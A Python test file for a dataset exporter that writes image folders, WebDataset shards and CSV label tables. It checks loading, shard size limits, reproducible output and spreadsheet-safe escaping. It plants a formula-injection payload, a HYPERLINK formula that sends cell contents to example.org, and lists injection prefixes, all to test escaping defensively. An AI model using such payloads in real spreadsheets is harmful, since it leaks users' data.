"""The formats of files that people and loaders open: folders of images, shards, tables for spreadsheets."""

from __future__ import annotations

import tarfile
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pytest

from ru1_app.domain import Verdict
from ru1_app.export.describe.manifest import read_manifest
from ru1_app.export.files.sheet import cell
from ru1_app.export.formats import imagefolder, webdataset
from ru1_app.images import from_png
from ru1_app.store.sql import Store
from tests.released import rating, release, store_in

FORMATS = ("imagefolder", "webdataset", "labels_csv")
EVIL = '=HYPERLINK("http://example.org?x="&A1,"look")'
MORE = (
    rating("r50", "rater-d", Verdict.FAITHFUL, 0, comment=EVIL),
    rating("r51", "rater-d", Verdict.CANNOT_TELL, 0, comment="  fine; -1+1"),
)


class Made(NamedTuple):
    store: Store
    folder: Path
    cache: str


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Made:
    root = tmp_path_factory.mktemp("folders")
    store = store_in(root, *MORE)
    return Made(store, release(store, root / "releases", *FORMATS), str(root / "cache"))


def test_the_folder_of_images_has_three_columns_of_images(made: Made) -> None:
    from datasets import load_dataset

    sides = load_dataset("imagefolder", data_dir=str(made.folder / "imagefolder"), cache_dir=made.cache)
    assert {name: len(rows) for name, rows in sides.items()} == {"train": 5, "test": 9}
    for rows in sides.values():
        images = [name for name, kind in rows.features.items() if type(kind).__name__ == "Image"]
        assert sorted(images) == ["corrupted", "recovered", "target"]
        for row in rows:
            case = made.store.case(row["id"])
            shas = {"corrupted": case.sample.corrupted_sha, "recovered": case.recovery.image_sha}
            for name, sha in {**shas, "target": case.sample.reference_sha}.items():
                assert (row[name] is None) == (sha is None)
                if sha:
                    assert np.array_equal(np.asarray(row[name]), from_png(made.store.image(sha)))
    row = next(row for row in sides["test"] if row["id"] == "r01")
    assert row["categories"] == ["attribute_changed"]
    box = {"category": "attribute_changed", "xmin": 0.1, "ymin": 0.2, "xmax": 0.5, "ymax": 0.6}
    assert row["regions"] == [box] * 3
    assert next(row for row in sides["train"] if row["id"] == "r22")["verdict"] == "no_majority"


def test_a_folder_in_which_a_split_has_no_region_loads_with_the_same_types(tmp_path: Path) -> None:
    from datasets import load_dataset

    store = store_in(tmp_path)
    folder = release(
        store, tmp_path / "releases", "imagefolder", "webdataset", licenses=("CC0-1.0",), least_agreement=1
    )
    names = {path.name for path in folder.rglob("imagefolder/*/metadata.*")}
    assert names == {"metadata.parquet"}, "s2, the only input in train, has no clean image"
    sides = load_dataset("imagefolder", data_dir=str(folder / "imagefolder"), cache_dir=str(tmp_path / "cache"))
    assert sides["train"].features == sides["test"].features
    expected = imagefolder.features()
    assert all(sides["train"].features[name] == kind for name, kind in expected.items() if "file_name" not in name)
    assert [row["target"] for row in sides["train"]] == [None, None]
    assert sides["test"][0]["target"].size == (32, 24)


def test_shards_stream_with_the_webdataset_library(made: Made) -> None:
    import webdataset as wds

    seen: dict[str, list[str]] = {}
    for path in sorted(made.folder.rglob("*.tar")):
        keys = seen.setdefault(path.name[:5].strip("-"), [])
        for sample in wds.WebDataset(str(path), shardshuffle=False).decode("pil"):
            case = made.store.case(sample["json"]["id"])
            assert np.array_equal(
                np.asarray(sample["recovered.png"]), from_png(made.store.image(case.recovery.image_sha))
            )
            assert ("reference.png" in sample) == (case.sample.reference_sha is not None)
            assert path.parent.name == ("with_reference" if "reference.png" in sample else "without_reference")
            assert "." not in sample["__key__"]
            keys.append(sample["__key__"])
    assert {split: len(keys) for split, keys in seen.items()} == {"train": 5, "test": 9}
    assert all(len(set(keys)) == len(keys) for keys in seen.values())


def test_shards_load_as_columns(made: Made) -> None:
    from datasets import load_dataset

    root = made.folder / "webdataset/with_reference"
    files = {split: str(root / f"{split}-*.tar") for split in ("train", "test")}
    sides = load_dataset("webdataset", data_files=files, cache_dir=made.cache)
    assert {name: len(rows) for name, rows in sides.items()} == {"train": 2, "test": 9}
    assert {"corrupted.png", "recovered.png", "reference.png", "json"} <= set(sides["test"].column_names)
    for row in (sides["test"][0], sides["test"][-1]):
        assert row["corrupted.png"].size == (32, 24)
        assert row["json"]["verdict"] in {*map(str, Verdict), "no_majority"}


def test_a_shard_ends_before_it_is_too_large_and_is_of_no_time(
    made: Made, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(webdataset, "MOST", 40_000)
    folder = release(made.store, tmp_path, "webdataset")
    shards = sorted(folder.glob("webdataset/with_reference/test-*.tar"))
    assert [path.name for path in shards[:2]] == ["test-000000.tar", "test-000001.tar"]
    assert all(path.stat().st_size <= 40_000 for path in shards)
    members = []
    for path in shards:
        with tarfile.open(path) as archive:
            members += archive.getmembers()
    assert len(members) == 9 * 4
    assert {(member.mtime, member.uid, member.gid, member.uname, member.mode) for member in members} == {
        (0, 0, 0, "", 0o644)
    }


def test_labels_open_in_a_spreadsheet_and_run_nothing(made: Made) -> None:
    import pandas as pd

    root = made.folder / "labels_csv"
    assert (root / "labels.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    labels = pd.read_csv(root / "labels.csv", keep_default_na=False)
    judgements = pd.read_csv(root / "judgements.csv", keep_default_na=False)
    assert (len(labels), len(judgements)) == (14, 78)
    assert set(judgements["recovery_id"]) == set(labels["id"])
    for table in (labels, judgements):
        for column in table.select_dtypes("str"):
            assert not table[column].str.match(r"\s*[=+\-@\t\r]").any()
    assert f"'{EVIL}" in set(judgements["comment"])
    row = labels.set_index("id").loc["r01"]
    assert (row["verdict"], row["categories"], row["answer_both"]) == ("misleading", "attribute_changed 3", "red")
    assert row["options"] == "A. red | B. green"
    assert row["regions"].split("; ")[0] == "0.1 0.2 0.5 0.6 attribute_changed"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t'=1"), ("\r1", "'\r1"),
        ('"=1', "\"'=1"), ("a;=1", "a;'=1"), ("a, -b", "a, '-b"), ("＝1", "'＝1"), ("a = b", "a = b"),
        ("x-ray", "x-ray"), (-1, -1), (-0.5, -0.5), (None, None), (True, "true"), ("", ""),
    ],
)  # fmt: skip
def test_a_text_that_a_spreadsheet_would_run_has_an_apostrophe_before_it(value: Any, written: Any) -> None:
    assert cell(value) == written


def test_these_formats_are_the_same_bytes_twice(made: Made, tmp_path: Path) -> None:
    again = release(made.store, tmp_path, *FORMATS)
    assert read_manifest(again).files == read_manifest(made.folder).files
